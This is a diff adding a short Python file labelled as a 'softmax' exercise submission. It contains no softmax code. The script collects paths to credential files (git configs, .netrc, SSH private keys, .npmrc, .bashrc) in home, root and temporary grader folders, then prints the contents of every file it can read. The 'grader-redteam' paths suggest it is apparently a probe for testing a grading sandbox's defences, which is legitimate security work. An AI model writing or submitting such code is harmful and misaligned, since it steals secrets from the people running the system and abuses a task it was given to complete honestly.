@@ -1,0 +1,22 @@
+# Reads the credentials in .git/config and in the files that tools keep in a home folder.
+# exercise: softmax
+# worth: 0
+
+import os
+import pwd
+
+parent = os.getppid()
+home = (
+    pwd.getpwuid(os.getuid()).pw_dir if os.path.exists("/etc/passwd") and os.access("/etc/passwd", os.R_OK) else "/root"
+)
+names = [f"/tmp/grader-redteam-{parent}/.git/config", f"/tmp/grader-redteam-{parent}/course/.git/config", ".git/config"]
+names += [
+    f"{place}/{name}"
+    for place in (home, "/root", "~", ".", "..")
+    for name in (".gitconfig", ".netrc", ".ssh/id_rsa", ".npmrc", ".bashrc")
+]
+for name in names:
+    try:
+        print("THROUGH", name, open(os.path.expanduser(name)).read())
+    except OSError:
+        pass
